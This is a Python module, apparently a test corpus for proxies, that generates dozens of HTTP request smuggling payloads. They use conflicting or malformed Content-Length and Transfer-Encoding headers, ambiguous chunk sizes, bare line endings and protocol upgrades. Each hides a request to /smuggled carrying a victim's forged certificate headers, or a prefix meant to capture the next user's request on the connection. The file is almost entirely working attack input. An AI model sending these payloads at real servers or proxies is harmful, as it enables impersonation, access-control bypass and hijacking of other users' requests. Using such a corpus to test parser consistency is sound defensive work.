"""Requests that two parsers may read differently: each hides a second one, whole or the beginning of one.

What is hidden asks for `/smuggled` with the headers of a victim's certificate; a beginning waits for the next request
on the connection, of whomever that is, to become its rest.
"""

from collections.abc import Iterator

from proxies.frame import HOST

_HEAD = f"Host: {HOST}\r\n".encode()
_POST = b"POST /outer HTTP/1.1\r\n" + _HEAD


def corpus(forged: list[tuple[str, str]]) -> Iterator[tuple[str, bytes]]:
    """What to send, by name."""
    fields = "".join(f"{name}: {value}\r\n" for name, value in forged).encode()
    whole = b"GET /smuggled HTTP/1.1\r\n" + _HEAD + fields + b"\r\n"
    beginning = b"GET /smuggled HTTP/1.1\r\nX-Rest: "
    for kind, hidden in (("whole", whole), ("beginning", beginning)):
        for name, sent in (*_lengths(hidden), *_encodings(hidden), *_chunks(hidden), *_heads(hidden), *_rest(hidden)):
            yield f"{name}, {kind}", sent


def _lengths(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    """Content-Length that is not one number."""
    size = b"%d" % len(hidden)
    yield "two lengths, the first none", _POST + b"Content-Length: 0\r\nContent-Length: " + size + b"\r\n\r\n" + hidden
    yield "two lengths, the last none", _POST + b"Content-Length: " + size + b"\r\nContent-Length: 0\r\n\r\n" + hidden
    odd = (
        b"+0", b"-0", b"0x0", b"0_0", b"0, " + size, size + b", 0", b"0 " + size, b'"0"', b"0;", b"", b"\x0b0",
        b"0\x00", b"00000000000000000000", b"18446744073709551616", b"0\xc2\xb2", b"0.0", b"0\r",
    )  # fmt: skip
    for value in odd:
        yield f"length {value!r}", _POST + b"Content-Length: " + value + b"\r\n\r\n" + hidden
    for name in (b"Content-Length ", b"Content_Length", b" Content-Length", b"Content-Length\x00", b"Content-Length\t"):
        yield f"length called {name!r}", _POST + name + b": " + size + b"\r\n\r\n" + hidden
    yield "a GET with a length", b"GET /outer HTTP/1.1\r\n" + _HEAD + b"Content-Length: " + size + b"\r\n\r\n" + hidden
    yield (
        "a HEAD with a length",
        b"HEAD /outer HTTP/1.1\r\n" + _HEAD + b"Content-Length: " + size + b"\r\n\r\n" + hidden,
    )
    yield (
        "a body that waits for 100 Continue",
        _POST + b"Expect: 100-continue\r\nContent-Length: " + size + b"\r\n\r\n" + hidden,
    )
    yield "a folded length", _POST + b"Content-Length:\r\n " + size + b"\r\n\r\n" + hidden


def _encodings(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    """Transfer-Encoding beside a length, in each of two readings."""
    spelled = (
        b"Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding : chunked",
        b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding: chunked\x0b",
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked, chunked", b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: chunked;a=b", b"Transfer-Encoding: CHUNKED", b"Transfer_Encoding: chunked",
        b"Transfer-Encoding\x00: chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked",
        b"X: x\nTransfer-Encoding: chunked", b"X: x\rTransfer-Encoding: chunked", b" Transfer-Encoding: chunked",
        b"X: x\r\n\tTransfer-Encoding: chunked", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: \x00chunked",
        b"Transfer-Encoding: chun\xc4\xb7ed", b"Transfer-Encoding\n: chunked", b"\x00Transfer-Encoding: chunked",
    )  # fmt: skip
    for each in spelled:
        ended = b"0\r\n\r\n" + hidden
        yield f"{each!r} and a length over all", _POST + each + b"\r\nContent-Length: %d\r\n\r\n" % len(ended) + ended
        size = b"%x\r\n" % len(hidden)
        body = size + hidden + b"\r\n0\r\n\r\n"
        yield f"a short length and {each!r}", _POST + b"Content-Length: %d\r\n" % len(size) + each + b"\r\n\r\n" + body
    old = b"POST /outer HTTP/1.0\r\n" + _HEAD + b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n"
    yield "chunked in HTTP/1.0", old + b"\r\n0\r\n\r\n" + hidden
    yield "chunked in HTTP/1.0 and a length", old + b"Content-Length: %d\r\n\r\n0\r\n\r\n" % (len(hidden) + 5) + hidden


def _chunks(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    """Chunks whose size or end can be read in two ways."""
    head = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
    size = b"%x" % len(hidden)
    sizes = (
        b"0x0", b"+0", b"-0", b" 0", b"0 ", b"0\t", b"0_0", b"00000000000000000000", b"10000000000000000", b"", b"g",
        b"0;a", b'0;a="b\r\n"', b"0;a=\n", b"0;\n", b"0\r", b"0\x00", b"ffffffffffffffff", b"-1", b"0;" + b"a" * 20000,
    )  # fmt: skip
    for each in sizes:
        yield f"a chunk of size {each[:30]!r}", head + each + b"\r\n\r\n" + hidden
    yield "bare LF behind a chunk's size", head + b"0\n\n" + hidden
    yield "bare CR behind a chunk's size", head + b"0\r\r" + hidden
    yield "an extension that ends in LF", head + b"2;\nxx\r\n" + size + b"\r\n0\r\n\r\n" + hidden
    yield "a chunk longer than its size", head + b"1\r\nxx\r\n0\r\n\r\n" + hidden
    yield "a chunk that ends in any two bytes", head + b"1\r\nxAB0\r\n\r\n" + hidden
    yield "a chunk that ends in LF", head + b"1\r\nx\n0\r\n\r\n" + hidden
    yield "a length in the trailer", head + b"0\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden
    yield "an encoding in the trailer", head + b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + hidden
    yield "a trailer that is no field", head + b"0\r\n" + hidden
    yield "a trailer that ends in LF", head + b"0\r\nX: y\n\n" + hidden


def _heads(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    """Heads whose end or lines can be read in two ways."""
    line = b"GET /outer HTTP/1.1\r\n"
    yield "bare LF as line ends", b"GET /outer HTTP/1.1\nHost: " + HOST.encode() + b"\n\n" + hidden
    yield "a head that ends in LF", line + _HEAD + b"X: y\n\n" + hidden
    yield "a head that ends in CR CR", line + _HEAD + b"X: y\r\r" + hidden
    yield "LF inside a value", line + _HEAD + b"X: y\n" + hidden + b"\r\n\r\n"
    yield "LF LF inside a value", line + _HEAD + b"X: y\n\n" + hidden + b"\r\n\r\n"
    yield "CR inside a value", line + _HEAD + b"X: y\r" + hidden + b"\r\n\r\n"
    yield "NUL inside a value", line + _HEAD + b"X: y\0\r\n\r\n" + hidden
    yield "a folded value", line + _HEAD + b"X: y\r\n " + hidden.replace(b"\r\n", b"\r\n ") + b"\r\n\r\n"
    yield "a line without a colon", line + _HEAD + b"X\r\n\r\n" + hidden
    yield "an empty name", line + _HEAD + b": y\r\n\r\n" + hidden
    yield "a space before the first field", line + b" X: y\r\n" + _HEAD + b"\r\n" + hidden
    yield "lines before the request", b"\r\n\r\n" + line + _HEAD + b"\r\n" + hidden
    yield "a line end in the path", b"GET /outer%0d%0a%0d%0aGET%20/smuggled HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    yield "a space in the path", b"GET /outer HTTP/1.1 HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    yield "a tab in the request line", b"GET\t/outer\tHTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    yield "HTTP/1.1 with a tail", b"GET /outer HTTP/1.1x\r\n" + _HEAD + b"\r\n" + hidden
    yield "HTTP/1.2", b"GET /outer HTTP/1.2\r\n" + _HEAD + b"\r\n" + hidden
    yield "HTTP/0.9", b"GET /outer\r\n" + hidden
    yield "a method in lower case", b"get /outer HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    yield "a method that is a field", b"X: y /outer HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    yield "an absolute target of another", b"GET http://localhost/outer HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden


def _rest(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    """Protocols that end, or seem to."""
    yield "pipelined", b"GET /outer HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    yield "pipelined behind close", b"GET /outer HTTP/1.1\r\n" + _HEAD + b"Connection: close\r\n\r\n" + hidden
    yield "CONNECT", b"CONNECT " + HOST.encode() + b":443 HTTP/1.1\r\n" + _HEAD + b"\r\n" + hidden
    websocket = b"Upgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    line = b"GET /outer HTTP/1.1\r\n" + _HEAD
    yield "a websocket of a version that there is not", line + b"Connection: Upgrade\r\n" + websocket + b"\r\n" + hidden
    h2c = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    yield "an upgrade to h2c", line + h2c + b"\r\n" + hidden
    yield "an upgrade with a length", _POST + h2c + b"Content-Length: %d\r\n\r\n" % len(hidden) + hidden
    yield "HTTP/2 in clear", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hidden
    yield (
        "Connection names the length",
        _POST + b"Connection: keep-alive, Content-Length\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden,
    )
    chunked = b"Connection: keep-alive, Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield "Connection names the encoding", _POST + chunked + b"%x\r\n" % len(hidden) + hidden + b"\r\n0\r\n\r\n"
